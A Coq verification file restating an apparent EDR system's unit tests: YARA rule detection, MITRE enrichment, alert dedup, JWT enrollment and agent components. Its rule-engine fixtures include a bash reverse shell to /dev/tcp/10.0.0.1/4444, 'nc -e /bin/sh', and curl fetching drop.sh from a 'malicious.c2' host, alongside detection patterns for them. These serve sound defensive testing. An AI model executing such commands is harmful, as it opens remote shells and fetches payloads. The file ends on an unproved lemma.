(* ===== verification/Conformance.v ===== *)
(** * The repository's own unit tests on the model
      (rule-engine/tests/unit_tests.rs; kafka-pipeline/tests; the tests modules of grpc-listener,
      node-enrollment, health-tracker, fleet-tracing, api-backend, agent-core, isolation,
      osquery-client, fleet-client; event-buffer/tests; fleet-client/tests)

    Each test is the boolean its assertions come to on the definitions of the
    other files, so a definition that departs from the tested behaviour is seen
    here.  YARA is a rule that matches a buffer containing one of its strings, the
    JWT library is [ToyJwt], and JSON texts stand for the values they print. *)
From Stdlib Require Import ZArith Lia SpecFloat.
From S2P Require Import Prelude Json RuleModels Dedup Scanner.
From S2P Require Pipeline FleetDb FleetServer FleetSystem Osquery Isolation FleetClient Agent EventBuffer.
From S2P Require Api ApiStream Preflight Startup ConfigFile Lifecycle.
#[local] Open Scope string_scope.
#[local] Open Scope list_scope.
#[local] Open Scope nat_scope.

Definition str_eq (a b : string) : bool := String.eqb a b.
Definition opt_eq (a b : option string) : bool :=
  match a, b with Some a, Some b => String.eqb a b | None, None => true | _, _ => false end.
(** [r.unwrap()], then the assertions. *)
Definition unwrap {T E} (r : result T E) (k : T → bool) : bool := match r with Ok x => k x | Err _ => false end.
Definition expect {T} (o : option T) (k : T → bool) : bool := match o with Some x => k x | None => false end.
Definition unwrap_err {T E} (r : result T E) (k : E → bool) : bool := match r with Ok _ => false | Err e => k e end.

(** JSON texts: a value's text is a fixed one, read back as the value. *)
Definition json_text (text : string) (v : value) : SerdeJson := table_serde [(text, v)] text.

(** ** rule-engine/tests/unit_tests.rs *)
Module RuleEngineTests.

(** A rule whose condition is [any of them]. *)
Record text_rule := TextRule { rule : MatchedRule; strings : list string }.
Definition scan (rules : list text_rule) (buf : string) : result (list MatchedRule) string :=
  Ok (rule <$> filter (λ r, existsb (λ s, str_contains s buf) (strings r) = true) rules).

(** The sources of the tests by their rule's name; any other text has a syntax error. *)
Definition sources : list (string * text_rule) :=
  [("Test_Detection_Rule", TextRule (Matched "Test_Detection_Rule"
      [("mitre_technique", MString "T1059.004"); ("severity", MString "critical"); ("threat_score", MInteger 85);
       ("description", MString "Detects test reverse shell execution")]) ["nc -e /bin/sh"]);
   ("Linux_Reverse_Shell", TextRule (Matched "Linux_Reverse_Shell"
      [("mitre_technique", MString "T1059.004"); ("severity", MString "critical"); ("threat_score", MInteger 90);
       ("description", MString "Detects interactive reverse shell")]) ["/dev/tcp/"; "nc -e /bin/"]);
   ("Suspicious_Curl", TextRule (Matched "Suspicious_Curl"
      [("mitre_technique", MString "T1105"); ("severity", MString "high"); ("threat_score", MInteger 75);
       ("description", MString "File download utility detected in execution path")]) ["curl"]);
   ("BareRule", TextRule (Matched "BareRule" []) ["drop"]);
   ("Network_Only_Rule", TextRule (Matched "Network_Only_Rule" []) ["malicious_c2_ip"])].
Definition add_source (source : string) (c : list text_rule) : result (list text_rule) string :=
  match map_get source sources with Some r => Ok (c ++ [r]) | None => Err "syntax error" end.
Definition compile (name source : string) : result (list text_rule) AppError :=
  compile_source [] add_source id name source.

#[local] Instance no_json : SerdeJson := table_serde [] "{custom_key: custom_val}".
Definition event (id type : string) (payload : list (string * value)) : TelemetryEvent :=
  mkEvent id "node" "prod-node-01" type 1234567890 (JObject payload) None.
Definition eval (rules : gmap string (list text_rule)) (ev : TelemetryEvent) : result (list Alert) AppError :=
  evaluate scan (λ i, "alert " +:+ pretty i) (λ _, 0%Z) (Registry rules ∅) ev.
Definition f32_eq (x : spec_float) (n : Z) : bool := SFeqb x (f32_of_Z n).

Definition ut01_valid_yara_compilation : bool :=
  unwrap (compile "test.yar" "Test_Detection_Rule") (λ rules,
    unwrap (scan rules "attacker ran nc -e /bin/sh on port 4444") (λ matching, length matching =? 1)).

Definition ut02_invalid_syntax_returns_error : bool :=
  unwrap_err (compile "broken.yar" "BrokenRule") (λ e,
    match e with RuleCompilation source_file _ _ => str_eq source_file "broken.yar" | _ => false end).

(** A directory of rules given by its entries and the entries of its directories. *)
Definition compile_dir (entries : list DirEntry) (inside : string → list DirEntry)
    : result (gmap string (list text_rule)) AppError :=
  compile_all [] add_source id (λ _, true)
    (λ d, Ok (Ok <$> (if str_eq d "rules" then entries else inside d))) (λ p, Ok p) "rules".
Definition ut03_per_event_type_compilation : bool :=
  unwrap (compile_dir [Entry "custom" "rules/custom" true false] (λ _, [Entry "a.yar" "BareRule" false true])) (λ sets,
    unwrap (ok_or "" (sets !! "custom")) (λ rules, is_ok (scan rules "clean test buffer"))).
Definition ut04_empty_rules_directory : bool :=
  unwrap (compile_dir [] (λ _, [])) (λ sets, bool_decide (sets = ∅)).
Definition ut05_mitre_subdir_skipped : bool :=
  unwrap (compile_dir [Entry "mitre" "rules/mitre" true false] (λ _, [Entry "dummy.json" "{}" false true])) (λ sets,
    negb (is_some (sets !! "mitre"))).

Definition test_alert (tech tactic : option string) (desc : string) (score : spec_float) : Alert :=
  mkAlert "a" "n" "test-host" Medium YaraX tech tactic desc None score "open" 0.
(** The technique as a catalogue has it. *)
Definition catalogue : MitreTaxonomy :=
  {["T1059.004" := mkTechnique "T1059.004" "Unix Shell" "Execution" "TA0002" High (f32_of_Z 8) "Abuse of Unix shells"]}.
Definition ut06_taxonomy_parsing : bool :=
  expect (resolve_technique catalogue "T1059.004") (λ tech,
    str_eq (technique_id tech) "T1059.004" && str_eq (tactic tech) "Execution"
    && SFltb (f32_of_Z 0) (base_threat_score tech)).
Definition ut07_unknown_technique_fallback : bool :=
  let a := enrich_alert ∅ "T9999" (test_alert (Some "T9999") None "Custom rule alert" (f32_of_Z 5)) in
  negb (is_some (resolve_technique ∅ "T9999")) && opt_eq (mitre_tactic a) None && f32_eq (threat_score a) 5.
Definition ut08_enrichment_populates_tactic : bool :=
  let a := enrich_alert catalogue "T1059.004" (test_alert (Some "T1059.004") None "" (f32_of_Z 0)) in
  opt_eq (mitre_tactic a) (Some "Execution") && SFltb (f32_of_Z 0) (threat_score a)
  && negb (str_is_empty (description a)).

Definition curl_event : TelemetryEvent :=
  event "evt-curl-1" "process" [("cmdline", JString "curl http://malicious.c2/drop.sh")].
Definition ut10_build_alert_from_yara_match : bool :=
  unwrap (compile "curl.yar" "Suspicious_Curl") (λ rules,
    unwrap (scan rules "curl http://malicious.c2/drop.sh") (λ matching,
      expect (head matching) (λ matched,
        let a := build_alert "a" 0 curl_event matched ∅ in
        bool_decide (severity a = High) && f32_eq (threat_score a) 75
        && str_eq (source_as_str (al_source a)) "yara_x" && opt_eq (mitre_technique_id a) (Some "T1105")
        && opt_eq (triggering_event_id a) (Some "evt-curl-1")))).
Definition ut11_build_alert_missing_metadata : bool :=
  unwrap (compile "bare.yar" "BareRule") (λ rules,
    unwrap (scan rules "drop payload") (λ matching,
      expect (head matching) (λ matched,
        let a := build_alert "a" 0 (event "evt-bare-1" "process" [("cmdline", JString "drop payload")]) matched ∅ in
        bool_decide (severity a = Medium) && f32_eq (threat_score a) 5 && str_contains "BareRule" (description a)))).

Definition ut12_scannable_buffer_extraction : bool :=
  let text := extract_scannable_buffer (event "evt-001" "process"
    [("cmdline", JString "/bin/bash -c nc -lvnp 4444"); ("path", JString "/bin/bash"); ("pid", json_int 5892);
     ("uid", json_int 1000)]) in
  str_contains "/bin/bash -c nc -lvnp 4444" text && str_contains "/bin/bash" text
  && negb (str_contains (dquote +:+ "pid" +:+ dquote +:+ ": 5892") text).
Definition column (name v : string) : value := JObject [("name", JString name); ("value", JString v)].
Definition ut12b_osquery_columns_extraction : bool :=
  let text := extract_scannable_buffer (event "evt-001b" "process"
    [("action", JString "ADDED"); ("query_name", JString "running_processes");
     ("rows", JArray [JObject [("columns", JArray
        [column "cmdline" "/bin/sh -c evil_command"; column "path" "/bin/sh"; column "pid" "1234"])]])]) in
  str_contains "/bin/sh -c evil_command" text && str_contains "/bin/sh" text && str_contains "1234" text.
Definition ut13_scannable_buffer_fallback : bool :=
  str_contains "custom_val"
    (extract_scannable_buffer (event "evt-002" "custom" [("custom_key", JString "custom_val")])).

Definition process_rules (source : string) : result (gmap string (list text_rule)) AppError :=
  match compile "rules.yar" source with Ok rules => Ok {["process" := rules]} | Err e => Err e end.
Definition ut14_reverse_shell_detection : bool :=
  unwrap (process_rules "Linux_Reverse_Shell") (λ rules,
    unwrap (eval rules (event "evt-rev-01" "process"
        [("cmdline", JString "/bin/bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"); ("path", JString "/bin/bash")])) (λ alerts,
      match alerts with
      | [a] => bool_decide (severity a = Critical) && opt_eq (mitre_technique_id a) (Some "T1059.004")
               && f32_eq (threat_score a) 90 && opt_eq (triggering_event_id a) (Some "evt-rev-01")
      | _ => false
      end)).
Definition ut15_clean_process_no_false_positive : bool :=
  unwrap (process_rules "Linux_Reverse_Shell") (λ rules,
    unwrap (eval rules (event "evt-clean-01" "process"
        [("cmdline", JString "/usr/bin/cargo test --workspace --all-features"); ("path", JString "/usr/bin/cargo")]))
      (λ alerts, length alerts =? 0)).
Definition ut16_event_type_routing : bool :=
  unwrap (compile "net.yar" "Network_Only_Rule") (λ rules,
    unwrap (eval {["network" := rules]} (event "evt-proc-1" "process" [("cmdline", JString "malicious_c2_ip")]))
      (λ alerts, length alerts =? 0)).

#[local] Existing Instance MruList.mru_lru.
(** The standard hash is unknown; this one puts the nodes on different shards. *)
Definition hash (s : string) : Z := Z.of_nat (String.length s).
Definition sig1 : AlertSignature := Signature "a" "Linux_Reverse_Shell" (Some "T1059.004").
Definition sig2 : AlertSignature := Signature "bb" "Linux_Reverse_Shell" (Some "T1059.004").
Definition sig3 : AlertSignature := Signature "a" "Privilege_Escalation" (Some "T1548.001").
(** Times in milliseconds. *)
Definition ut17_to_ut21_dedup_behavior : bool :=
  unwrap (new 1000 1000) (λ dedup,
    bool_decide ((check_all hash ((sig1, 0%Z) :: replicate 10 (sig1, 1%Z)
                    ++ [(sig3, 2%Z); (sig2, 3%Z); (sig1, 1103%Z)]) dedup).1
                 = true :: replicate 10 false ++ [true; true; true])).
Definition ut22_sharded_distribution : bool :=
  unwrap (new 16000 60000) (λ dedup,
    forallb id (check_all hash ((λ i, (Signature (pretty i) "TestRule" None, 0%Z)) <$> List.seq 0 100) dedup).1).
Definition ut23_zero_capacity_returns_error : bool :=
  unwrap_err (new 0 60000) (λ _, true).

Definition ut24_detection_source_as_str : bool :=
  bool_decide (source_as_str <$> [YaraX; Sigma; Mitre; Behavioral] = ["yara_x"; "sigma"; "mitre"; "behavioral"]).
Definition ut25_new_alert_entity_from_alert : bool :=
  let e := entity_of_alert (mkAlert "id" "n" "node-101" Critical YaraX (Some "T1059.004") (Some "Execution")
             "Reverse shell detected" (Some "evt-999") (f32_of_Z 95) "open" 0) in
  str_eq (ne_alert_id e) "id" && str_eq (ne_severity e) "critical" && str_eq (ne_source e) "yara_x"
  && opt_eq (ne_mitre_technique_id e) (Some "T1059.004") && f32_eq (ne_threat_score e) 95.

Definition env (k : string) : option string :=
  if str_eq k "DATABASE_URL" then Some "postgres://localhost/edr_alerts" else None.
Definition ut26_config_from_env_defaults : bool :=
  unwrap (from_env 8 env) (λ c,
    (db_pool_max_size c =? 20)%Z && (channel_capacity c =? 10000)%Z && (dedup_capacity c =? 100000)%Z
    && (dedup_suppression_window_secs c =? 60)%Z && (batch_max_size c =? 500)%Z
    && (batch_flush_interval_ms c =? 100)%Z && (health_port c =? 8081)%Z).
Definition ut27_config_missing_database_url : bool := negb (is_ok (from_env 8 (λ _, None))).
Definition ut28_app_error_display_formats : bool :=
  str_contains "test.yar:12" (display_error (RuleCompilation "test.yar" 12 "syntax error"))
  && str_contains "evt-1" (display_error (ScanFailure "evt-1" "timeout")).

Definition suite : list bool :=
  [ut01_valid_yara_compilation; ut02_invalid_syntax_returns_error; ut03_per_event_type_compilation;
   ut04_empty_rules_directory; ut05_mitre_subdir_skipped; ut06_taxonomy_parsing; ut07_unknown_technique_fallback;
   ut08_enrichment_populates_tactic; ut10_build_alert_from_yara_match; ut11_build_alert_missing_metadata;
   ut12_scannable_buffer_extraction; ut12b_osquery_columns_extraction; ut13_scannable_buffer_fallback;
   ut14_reverse_shell_detection; ut15_clean_process_no_false_positive; ut16_event_type_routing;
   ut17_to_ut21_dedup_behavior; ut22_sharded_distribution; ut23_zero_capacity_returns_error;
   ut24_detection_source_as_str; ut25_new_alert_entity_from_alert; ut26_config_from_env_defaults;
   ut27_config_missing_database_url; ut28_app_error_display_formats].
End RuleEngineTests.

(** ** kafka-pipeline/tests/integration_test.rs *)
Module PipelineTests.
Import Pipeline.Metrics.

Definition metrics_counter_increments : bool :=
  let m := foldl (λ m t, inc_routed t m) (inc_consumed new)
             ["aigis.events.process"; "aigis.events.network"; "aigis.events.file"; "aigis.events.auth"; "aigis.events.dlq"] in
  let output := format_prometheus (inc_errors m) in
  forallb (λ s, str_contains s output)
    (["aigis_pipeline_events_consumed_total 1"; "aigis_pipeline_routing_errors_total 1"]
     ++ ((λ t, routed_label t +:+ "1") <$>
         ["aigis.events.process"; "aigis.events.network"; "aigis.events.file"; "aigis.events.auth"; "aigis.events.dlq"])).
Definition health_router_endpoints : bool := (events_consumed new =? 0)%Z.

Definition suite : list bool := [metrics_counter_increments; health_router_endpoints].
End PipelineTests.

(** ** The fleet server's crates *)
Module FleetServerTests.
Import FleetDb FleetServer.

(** [ToyJwt] with the key in front of the token, so that another key is refused. *)
#[local] Instance keyed_jwt : Jwt := {|
  encode c key := match @encode ToyJwt.toy_jwt c key with Ok t => Ok (key +:+ "." +:+ t) | Err e => Err e end;
  decode t key now :=
    match strip_prefix (key +:+ ".") t with
    | Some t => @decode ToyJwt.toy_jwt t key now
    | None => Err "InvalidSignature"
    end |}.

(** grpc-listener/src/auth.rs, at a fixed time *)
Definition clock : Z := 1800000000.
Definition make_token (id secret : string) (exp_offset_secs : Z) : string :=
  default "" (ok (encode (Claims id (clock + exp_offset_secs)) secret)).
Definition bearer (t : string) : metadata := [("authorization", "Bearer " +:+ t)].
Definition unauthenticated_code (st : status) : bool := match st_code st with Unauthenticated => true | _ => false end.
Definition internal_code (st : status) : bool := match st_code st with Internal => true | _ => false end.

Definition accepts_valid_token : bool :=
  unwrap (validate_token (bearer (make_token "node-123" "test-secret" 3600)) "test-secret" clock)
    (λ claims, str_eq (node_id claims) "node-123").
Definition rejects_missing_header : bool :=
  unwrap_err (validate_token [] "secret" clock) unauthenticated_code.
Definition rejects_expired_token : bool :=
  unwrap_err (validate_token (bearer (make_token "node-123" "test-secret" (-3600))) "test-secret" clock)
    unauthenticated_code.
Definition rejects_wrong_secret : bool :=
  unwrap_err (validate_token (bearer (make_token "node-123" "correct-secret" 3600)) "wrong-secret" clock)
    unauthenticated_code.

(** node-enrollment/src/token.rs *)
Definition SECRET : string := "test-secret-long-enough-for-hs256-validation".
Definition NODE_ID : string := "a1b2c3d4-0001-0000-0000-000000000001".
Definition signed (id : string) (k : string → bool) : bool := unwrap (sign_token (Some clock) id SECRET) k.
Definition signed_token_decodes_with_same_secret : bool :=
  signed NODE_ID (λ t, unwrap (decode t SECRET clock) (λ claims, str_eq (node_id claims) NODE_ID)).
Definition token_carries_correct_node_id : bool :=
  signed "other-node" (λ t, unwrap (decode t SECRET clock) (λ claims, str_eq (node_id claims) "other-node")).
Definition wrong_secret_fails_decode : bool :=
  signed NODE_ID (λ t, negb (is_ok (decode t "wrong-secret" clock))).
Definition exp_is_24h_from_now : bool :=
  signed NODE_ID (λ t, unwrap (decode t SECRET clock) (λ claims,
    (clock + TOKEN_TTL_SECS - 5 <=? exp claims)%Z && (exp claims <=? clock + TOKEN_TTL_SECS + 5)%Z)).

(** node-enrollment/src/enroller.rs: stores that answer one thing. *)
Definition mock_node_store (answer : result string NodeEnrollmentError) : NodeStore unit := {|
  upsert_node _ _ s := (answer, s); node_of _ _ := None; store_ok _ := True |}.
Definition call : call_env := CallEnv "h1" "h2" clock None (λ _, None) None.
Definition test_reg : AgentRegistration := Registration "test-host" "Ubuntu 24.04" "0.1.0" "mid-test-001".
Definition enroll_with (answer : result string NodeEnrollmentError) : result RegistrationResult status :=
  (@register_agent _ unit (mock_node_store answer) "test-secret-long-enough" call (Some clock) test_reg tt).1.
Definition successful_enrollment_returns_node_id_and_token : bool :=
  unwrap (enroll_with (Ok NODE_ID)) (λ r, str_eq (res_node_id r) NODE_ID && negb (str_is_empty (res_token r))).
Definition enrollment_store_failure_maps_to_internal_status : bool :=
  unwrap_err (enroll_with (Err (Store "simulated db failure"))) internal_code.

(** health-tracker/src/tracker.rs: a store that keeps its calls, one that fails. *)
Definition mock_health_store : HealthStore (list HeartbeatRecord) := {|
  record_heartbeat _ r calls := (Ok tt, calls ++ [r]); operator_of _ _ := None |}.
Definition failing_health_store : HealthStore (list HeartbeatRecord) := {|
  record_heartbeat _ _ calls := (Err "simulated failure", calls); operator_of _ _ := None |}.
Definition hb (st : string) : AgentHeartbeat := Heartbeat NODE_ID st 42.
Definition tracked (store : HealthStore (list HeartbeatRecord)) (st : string) : result unit status * list HeartbeatRecord :=
  @track_heartbeat _ store call (hb st) [].
(** The call succeeds; its last record. *)
Definition last_call (st : string) (k : HeartbeatRecord → bool) : bool :=
  let '(r, calls) := tracked mock_health_store st in is_ok r && expect (last calls) k.
Definition heartbeat_forwarded_to_store : bool :=
  let '(r, calls) := tracked mock_health_store "healthy" in is_ok r && (length calls =? 1).
Definition healthy_status_passes_through_unchanged : bool :=
  last_call "healthy" (λ c, str_eq (hb_agent_status c) "healthy").
Definition isolated_status_from_agent_is_coerced_to_degraded : bool :=
  last_call "isolated" (λ c, str_eq (hb_agent_status c) "degraded").
Definition record_contains_server_timestamp : bool :=
  last_call "healthy" (λ c, (clock <=? hb_recorded_at c)%Z && (hb_recorded_at c <=? clock)%Z).
Definition heartbeat_store_failure_maps_to_internal_status : bool :=
  unwrap_err (tracked failing_health_store "healthy").1 internal_code.

(** fleet-tracing/src/init.rs *)
Import Startup.Tracing.
Definition is_json (f : LogFormat) : bool := match f with JsonFormat => true | Human => false end.
Definition log_format_parses_json : bool := unwrap (from_str "json") is_json && unwrap (from_str "JSON") is_json.
Definition log_format_parses_human : bool :=
  unwrap (from_str "human") (λ f, negb (is_json f)) && unwrap (from_str "pretty") (λ f, negb (is_json f)).
Definition log_format_rejects_unknown : bool := negb (is_ok (from_str "xml")).
Definition tracing_config_default_is_sane : bool :=
  str_eq (log_level default_config) "info" && negb (is_json (format default_config))
  && str_eq (service_name default_config) "fleet-server".

Definition suite : list bool :=
  [accepts_valid_token; rejects_missing_header; rejects_expired_token; rejects_wrong_secret;
   signed_token_decodes_with_same_secret; token_carries_correct_node_id; wrong_secret_fails_decode;
   exp_is_24h_from_now; successful_enrollment_returns_node_id_and_token;
   enrollment_store_failure_maps_to_internal_status; heartbeat_forwarded_to_store;
   healthy_status_passes_through_unchanged; isolated_status_from_agent_is_coerced_to_degraded;
   record_contains_server_timestamp; heartbeat_store_failure_maps_to_internal_status; log_format_parses_json;
   log_format_parses_human; log_format_rejects_unknown; tracing_config_default_is_sane].
End FleetServerTests.

(** ** api-backend/src/kafka/consumer.rs *)
Module ApiTests.
Import Api ApiStream.

Definition agent_uuid : string := "b6b8bed7-decf-4a56-80de-1600b762f750".
(** An event as the agent wrote it, with the rows of the test. *)
Definition raw_event (rows : list value) : value :=
  JObject [("action", JString "ADDED"); ("agent_uuid", JString agent_uuid);
           ("query_name", JString "running_processes"); ("rows", JArray rows);
           ("timestamp_ns", json_int 1788880789164568263)].
Definition curl_row : value :=
  JObject [("columns", JArray [RuleEngineTests.column "pid" "1234"; RuleEngineTests.column "name" "curl"])].
Definition envelope : value :=
  JObject [("event_type", JString "process_events"); ("hostname", JString "hawkins");
           ("id", JString "c1b2c3d4-0001-0000-0000-000000000001"); ("node_id", JString agent_uuid);
           ("payload", JObject [("cmdline", JString "ls -la")]); ("raw_sequence_id", JString "seq-999");
           ("timestamp_ns", json_int 1788880789164568263)].
Definition parse (topic : string) (v : value) : option EventLogEntity :=
  @parse_log_entity (json_text "bytes" v) Ok 0 "fresh" topic "bytes".

Definition parse_log_entity_from_raw_agent_event : bool :=
  expect (parse "aigis.events.raw" (raw_event [curl_row])) (λ e,
    str_eq (lg_node_id e) agent_uuid && str_eq (lg_event_type e) "running_processes"
    && str_eq (lg_hostname e) "unknown" && is_some (get "rows" (lg_payload e))).
Definition parse_log_entity_from_envelope : bool :=
  expect (parse "aigis.events.process" envelope) (λ e,
    str_eq (lg_event_id e) "c1b2c3d4-0001-0000-0000-000000000001" && str_eq (lg_node_id e) agent_uuid
    && str_eq (lg_hostname e) "hawkins" && str_eq (lg_event_type e) "process_events"
    && opt_eq (lg_raw_sequence_id e) (Some "seq-999")).
Definition parse_log_entity_ignores_non_event_topics : bool :=
  let foo := JObject [("foo", JString "bar")] in
  negb (is_some (parse "aigis.alerts" foo)) && negb (is_some (parse "aigis.health" foo)).
(** The message is no [LiveEvent] of its own: it has no tag. *)
Definition parse_kafka_message_extracts_agent_uuid : bool :=
  expect (@parse_kafka_message (json_text "bytes" (raw_event [])) (λ _, None) (Some 0%Z) "aigis.events.raw" "bytes")
    (λ e, match e with Log n _ t _ _ => str_eq n agent_uuid && str_eq t "running_processes" | _ => false end).

Definition suite : list bool :=
  [parse_log_entity_from_raw_agent_event; parse_log_entity_from_envelope;
   parse_log_entity_ignores_non_event_topics; parse_kafka_message_extracts_agent_uuid].
End ApiTests.

(** ** The agent's crates *)
Module AgentTests.
Import Osquery Isolation Agent.

(** agent-core/src/lib.rs and orchestrator.rs: the encoded event is read back. *)
Definition test_result (uuid : string) (ts : Z) : OsqueryResult :=
  mkResult "test_query" uuid ts [ResultRow [Column "col1" "val1"]] Snapshot.
Definition fields (event : value) (uuid : string) (ts : Z) : bool :=
  let payload := FleetClient.index "payload" event in
  opt_eq (v ← get "node_id" event; as_str v) (Some uuid)
  && bool_decide ((v ← get "event_type" event; as_i64 v) = Some 0%Z)
  && bool_decide ((v ← get "timestamp_ns" event; as_i64 v) = Some ts)
  && opt_eq (v ← get "query_name" payload; as_str v) (Some "test_query")
  && opt_eq (v ← get "action" payload; as_str v) (Some "SNAPSHOT").
Definition osquery_result_encoding_happy_path : bool :=
  let r := test_result "test-agent-123" 1718660000000000000 in
  let J := json_text "text" (agent_event_json "seq" r) in
  expect (@encode_osquery_result J "seq" r) (λ json_str,
    unwrap (@from_slice J json_str) (λ event, fields event "test-agent-123" 1718660000000000000)).
Definition encode_result_test : bool :=
  let r := test_result "uuid-123" 123456789 in
  let J := json_text "text" (agent_event_json "seq" r) in
  unwrap (@from_slice J (@encode_result J "seq" r)) (λ event, fields event "uuid-123" 123456789).

#[local] Existing Instance KernelNft.kernel_nft.
Definition handled (c : Command) (k : value → bool) : bool :=
  unwrap (handle (Manager (V4 127 0 0 1) 50051) (Some c) (KernelNft.Kernel None true)).1 k.
Definition status_is (s : string) (v : value) : bool := opt_eq (v ← get "status" v; as_str v) (Some s).
Definition command_handling_ack : bool := handled (AckCmd "test-seq-123") (status_is "acked").
Definition command_handling_config_update : bool :=
  handled (ConfigUpdate (Some (JObject []))) (status_is "config_updated").

(** agent-core/src/preflight.rs *)
Definition report (config_dir : result unit string) : Preflight.PreflightReport :=
  Preflight.Report config_dir (Ok tt) (Ok tt) (Ok true) (Ok 524288%Z) (Ok "Found") (Ok "Found") true.
Definition preflight_is_ok_logic : bool :=
  Preflight.is_ok (report (Ok tt)) && negb (Preflight.is_ok (report (Err "fail"))).

(** isolation/src/lib.rs *)
Definition ruleset_generation_ipv4 : bool :=
  let text := ruleset (Manager (V4 1 2 3 4) 8443) in
  str_contains "ip saddr 1.2.3.4 tcp sport 8443 accept" text && str_contains "ip daddr 1.2.3.4 tcp dport 8443 accept" text.

(** agent-core/src/config.rs: the text as the tree it parses to. *)
Definition test_agent_toml : list (string * ConfigFile.toml) :=
  let text s := ConfigFile.TomlString s in let int (z : nat) := ConfigFile.TomlInteger (Z.of_nat z) in
  [("agent", ConfigFile.TomlTable
     [("name", text "test-agent"); ("log_level", text "debug"); ("log_format", text "human"); ("log_dir", text "/var/log");
      ("data_dir", text "/var/lib"); ("event_buffer_db", text "/var/lib/events.db"); ("event_buffer_max", int 1000);
      ("event_drain_batch", int 100); ("event_drain_interval_secs", int 5);
      ("server", ConfigFile.TomlTable [("bind_addr", text "127.0.0.1"); ("port", int 9100)])]);
   ("osquery", ConfigFile.TomlTable
     [("socket_path", text "/var/osquery/osquery.em"); ("conf_path", text "/etc/osquery/osquery.conf");
      ("flags_path", text "/etc/osquery/osquery.flags"); ("pid_file", text "/var/osquery/osqueryd.pidfile");
      ("log_path", text "/var/log/osquery"); ("connect_timeout_secs", int 30); ("query_timeout_secs", int 60)]);
   ("fleet", ConfigFile.TomlTable
     [("host", text "fleet.test"); ("port", int 8443); ("endpoint", text "https://fleet.test:8443");
      ("enrollment_secret", text "secret"); ("tls_ca_cert", text "/etc/ca.crt"); ("heartbeat_interval_secs", int 60);
      ("reconnect_interval_secs", int 10); ("max_reconnect_attempts", int 0)]);
   ("isolation", ConfigFile.TomlTable
     [("enabled", ConfigFile.TomlBoolean false); ("fleet_ip", text "192.168.1.100"); ("fleet_port", int 8443)])].
Definition parse_agent_toml : bool :=
  unwrap (ConfigFile.from_str Ok (λ _, Ok test_agent_toml) "toml_str") (λ config,
    str_eq (ag_name (cfg_agent config)) "test-agent" && (srv_port (ag_server (cfg_agent config)) =? 9100)%Z
    && str_eq (osq_socket_path (cfg_osquery config)) "/var/osquery/osquery.em"
    && str_eq (fl_host (cfg_fleet config)) "fleet.test" && negb (iso_enabled (cfg_isolation config))).

(** agent-core/src/lib.rs: the token is cancelled before the task is first polled. *)
Definition shutdown_signal_cancellation : bool :=
  match Lifecycle.select (Some 0%Z) (Some 500%Z) with Some Lifecycle.First => true | _ => false end.

(** osquery-client/src/scheduler.rs *)
Definition no_fault (_ : nat) : option string := None.
Definition upserted (q : ScheduledQuery) (t : sched_table) (k : list ScheduledQuery → ScheduledQuery → bool) : bool :=
  let '(r, t) := upsert_queries None None no_fault 2 [q] t in
  is_ok r && unwrap (load_queries None t) (λ loaded,
    (length loaded =? 4) && expect (List.find (λ q, str_eq (q_name q) "test_query") loaded) (k loaded)).
Definition is_query (q : ScheduledQuery) (_ : list ScheduledQuery) (q' : ScheduledQuery) : bool :=
  str_eq (q_query q') (q_query q) && (q_interval_secs q' =? q_interval_secs q)%Z
  && Bool.eqb (q_snapshot q') (q_snapshot q).
Definition upsert_and_load_queries : bool :=
  let '(r, t) := Osquery.new None None no_fault 1 None in
  let q1 := Query "test_query" "SELECT 1" 60 false in
  let q2 := Query "test_query" "SELECT 2" 120 true in
  is_ok r && upserted q1 t (is_query q1)
  && upserted q2 (upsert_queries None None no_fault 2 [q1] t).2 (is_query q2).

(** event-buffer/tests/event_buffer_test.rs *)
Definition buffer_flow : SE EventBuffer.table string bool :=
  let push x := EventBuffer.push (λ _, false) EventBuffer.no_push_faults 3 0 x in
  let drain := EventBuffer.drain EventBuffer.no_drain_faults in
  e0 ← EventBuffer.is_empty None; n0 ← EventBuffer.len None;
  push "event 1";; push "event 2";; push "event 3";; push "event 4";;
  n1 ← EventBuffer.len None; drained ← drain 2%Z; n2 ← EventBuffer.len None; remaining ← drain 5%Z;
  e1 ← EventBuffer.is_empty None;
  mret (e0 && (n0 =? 0)%Z && (n1 =? 3)%Z && bool_decide (drained = ["event 2"; "event 3"]) && (n2 =? 1)%Z
        && bool_decide (remaining = ["event 4"]) && e1).
Definition event_buffer_flow : bool :=
  unwrap (EventBuffer.new None None) (λ t, unwrap (buffer_flow t).1 id).

(** fleet-client/src/lib.rs *)
Definition client : FleetClient.FleetClient := FleetClient.new "http://localhost:50051".
Definition fleet_client_initial_state : bool :=
  str_eq (FleetClient.endpoint client) "http://localhost:50051" && opt_eq (FleetClient.node_id client) None
  && opt_eq (FleetClient.token client) None.
Definition fleet_client_with_assigned_identity : bool :=
  let c := FleetClient.set_identity "id" "test-jwt-token" client in
  opt_eq (FleetClient.node_id c) (Some "id") && opt_eq (FleetClient.token c) (Some "test-jwt-token").

(** fleet-client/tests/concurrency_test.rs: five agents enrol at the fleet server at
    the same time, their transactions statement by statement in turn. *)
Import FleetDb FleetServer FleetSystem.
#[local] Existing Instance ToyJwt.toy_jwt.
Definition sim_node (i : nat) : label :=
  Register (CallEnv ("n" +:+ pretty i) ("e" +:+ pretty i) 5 None (λ _, None) None) (Some 1%Z) []
    (Registration ("sim-node-" +:+ pretty i) "Linux Sim 6.6" "0.1.0" ("sim-machine-uuid-" +:+ pretty i)).
Definition concurrency_run : list label :=
  (sim_node <$> List.seq 1 5) ++ (RegStep <$> List.seq 0 5) ++ (RegStep <$> List.seq 0 5) ++ (RegAnswer <$> List.seq 0 5).
Definition concurrent_agent_enrollment : bool :=
  expect (fire_all (@FleetSystem.fire _ (json_text "{}" (JObject [])) id Ok None "key" "events") any_order
            concurrency_run (started_server (Db ∅ [] []))) (λ e,
    let answers := omap (λ r, match answer r with Some (Ok resp) => Some resp | _ => None end) (regs e) in
    forallb (λ a, negb (str_is_empty (rr_node_id a)) && negb (str_is_empty (rr_token a))) answers
    && (length (remove_dups (rr_node_id <$> answers)) =? 5)).

Definition suite : list bool :=
  [osquery_result_encoding_happy_path; encode_result_test; command_handling_ack; command_handling_config_update;
   preflight_is_ok_logic; ruleset_generation_ipv4; upsert_and_load_queries; event_buffer_flow;
   fleet_client_initial_state; fleet_client_with_assigned_identity; concurrent_agent_enrollment;
   parse_agent_toml; shutdown_signal_cancellation].
End AgentTests.

(** ** The suites pass *)

Lemma rule_engine_tests_pass : RuleEngineTests.suite = replicate 24 true.
Proof. vm_compute. reflexivity. Qed.

Lemma pipeline_tests_pass : PipelineTests.suite = replicate 2 true.
